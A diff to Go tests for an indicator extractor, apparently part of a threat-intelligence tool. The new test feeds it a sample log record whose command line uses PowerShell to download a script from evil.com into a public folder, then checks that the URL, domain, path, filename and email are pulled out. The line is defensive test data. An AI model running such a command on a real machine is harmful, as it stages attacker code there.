@@ -108,6 +108,21 @@ func TestExtractorFindsWhatFieldsHold(t *testing.T) {
 	}
 }
 
+func TestExtractorLooksIntoText(t *testing.T) {
+	t.Parallel()
+	names := intel.NewNames(nil)
+	x := observable.NewExtractor(names)
+	rec := record(names, "CommandLine", `powershell iwr http://evil.com/a.ps1 -o C:\Users\Public\a.ps1`, "Message", "sent to jane@evil.com from 127.0.0.1", "Image", `C:\x.exe`)
+	for range 2 { // the second finds the extractor used
+		var got []string
+		x.EachText(rec, func(kind intel.ObservableKind, value []byte) { got = append(got, kind.String()+" "+string(value)) })
+		want := []string{"url http://evil.com/a.ps1", "domain evil.com", `filepath c:\users\public\a.ps1`, "filename a.ps1", "email jane@evil.com"}
+		if diff := cmp.Diff(want, got); diff != "" {
+			t.Errorf("-want +got:\n%s", diff)
+		}
+	}
+}
+
 func TestExtractorReportsEachOnce(t *testing.T) {
 	t.Parallel()
 	rapid.Check(t, func(t *rapid.T) {
@@ -144,9 +159,10 @@ func TestExtractorDoesNotAllocate(t *testing.T) {
 		records = append(records, record(names, c.fields...))
 	}
 	n := 0
+	visit := func(_ intel.ObservableKind, value []byte) { n += len(value) }
 	each := func() {
 		for _, rec := range records {
-			x.Each(rec, func(_ intel.ObservableKind, value []byte) { n += len(value) })
+			x.Each(rec, visit)
 		}
 	}
 	if allocations := testing.AllocsPerRun(10, each); allocations != 0 {
